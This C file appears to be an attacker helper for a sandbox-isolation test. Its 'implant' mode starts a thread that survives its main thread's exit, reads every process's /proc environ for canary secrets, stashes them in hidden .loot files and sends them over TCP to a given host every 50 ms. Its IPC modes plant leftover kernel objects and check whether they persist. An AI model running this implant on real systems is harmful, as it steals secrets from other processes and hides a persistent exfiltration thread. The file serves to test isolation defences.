/*
 * The attacker's helper of `pool_clean_room_attacks.rs`, built by that test with
 * `gcc -static -pthread` and copied into an image FROM the subagent image. Three modes:
 *
 *   implant HOST PORT  a collector thread that outlives the process's main thread: it reads
 *                      every /proc/<pid>/environ, keeps any CANARY= line it finds, writes what
 *                      it has to /tmp/.loot and /workspace/scratch/.loot, and reports to the
 *                      test's echo server at HOST:PORT ("alive" or "LOOT <line>") every 50 ms.
 *                      The main thread then exits alone (SYS_exit, not exit_group): the
 *                      process shows its leader's `Z` state while the collector runs on.
 *   ipc                a POSIX message queue and System V shm segment, semaphore set and
 *                      message queue, each with something in it.
 *   ipc-check          whether any of those can still be opened ("FOUND x" or "none x").
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MQ_NAME "/nxs-leftover"
#define SHM_KEY 0x4e58
#define SEM_KEY 0x4e59
#define MSG_KEY 0x4e5a

static const char *host;
static int port;
static char loot[4096];

static void report(const char *what) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return;
    struct sockaddr_in addr = {0};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    inet_pton(AF_INET, host, &addr.sin_addr);
    if (connect(s, (struct sockaddr *)&addr, sizeof addr) == 0) {
        if (write(s, what, strlen(what)) < 0) { /* the next round tries again */ }
    }
    close(s);
}

static void keep(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) return;
    if (write(fd, loot, strlen(loot)) < 0) { /* the next round tries again */ }
    close(fd);
}

static void *collect(void *unused) {
    (void)unused;
    static char buf[65536];
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            ssize_t n = read(fd, buf, sizeof buf - 1);
            close(fd);
            if (n <= 0) continue;
            buf[n] = 0;
            for (char *var = buf; var < buf + n; var += strlen(var) + 1) {
                if (strncmp(var, "CANARY=", 7) == 0 && !loot[0])
                    snprintf(loot, sizeof loot, "LOOT %.4000s\n", var);
            }
        }
        if (proc) closedir(proc);
        if (loot[0]) {
            keep("/tmp/.loot");
            keep("/workspace/scratch/.loot");
        }
        report(loot[0] ? loot : "alive\n");
        usleep(50000);
    }
    return NULL;
}

/* Each object is made, or "no <kind>: <error>" is said (gVisor refuses them to a task: the
 * subagent's filter) and the others are still tried. */
static int make_ipc(void) {
    struct mq_attr attr = {0};
    attr.mq_maxmsg = 4;
    attr.mq_msgsize = 64;
    mqd_t q = mq_open(MQ_NAME, O_CREAT | O_RDWR, 0600, &attr);
    if (q == (mqd_t)-1) printf("no mq: %s\n", strerror(errno));
    else if (mq_send(q, "FILEMARK-mq", 11, 0) != 0) { perror("mq"); return 1; }
    int shm = shmget(SHM_KEY, 4096, IPC_CREAT | 0600);
    if (shm < 0) printf("no shm: %s\n", strerror(errno));
    else {
        char *mem = shmat(shm, NULL, 0);
        if (mem == (char *)-1) { perror("shm"); return 1; }
        strcpy(mem, "FILEMARK-shm");
    }
    if (semget(SEM_KEY, 1, IPC_CREAT | 0600) < 0) printf("no sem: %s\n", strerror(errno));
    int msg = msgget(MSG_KEY, IPC_CREAT | 0600);
    struct { long type; char text[16]; } m = {1, "FILEMARK-msg"};
    if (msg < 0) printf("no msg: %s\n", strerror(errno));
    else if (msgsnd(msg, &m, sizeof m.text, 0) != 0) { perror("msg"); return 1; }
    printf("ipc made\n");
    return 0;
}

static int check_ipc(void) {
    mqd_t q = mq_open(MQ_NAME, O_RDONLY);
    printf("%s mq\n", q == (mqd_t)-1 ? "none" : "FOUND");
    printf("%s shm\n", shmget(SHM_KEY, 0, 0) < 0 ? "none" : "FOUND");
    printf("%s sem\n", semget(SEM_KEY, 0, 0) < 0 ? "none" : "FOUND");
    printf("%s msg\n", msgget(MSG_KEY, 0) < 0 ? "none" : "FOUND");
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "implant") == 0) {
        host = argv[2];
        port = atoi(argv[3]);
        pthread_t collector;
        if (pthread_create(&collector, NULL, collect, NULL) != 0) return 1;
        /* Only this thread ends; the thread group lives on in the collector. */
        syscall(SYS_exit, 0);
    }
    if (argc == 2 && strcmp(argv[1], "ipc") == 0) return make_ipc();
    if (argc == 2 && strcmp(argv[1], "ipc-check") == 0) return check_ipc();
    fprintf(stderr, "usage: nx-helper implant HOST PORT | ipc | ipc-check\n");
    return 2;
}
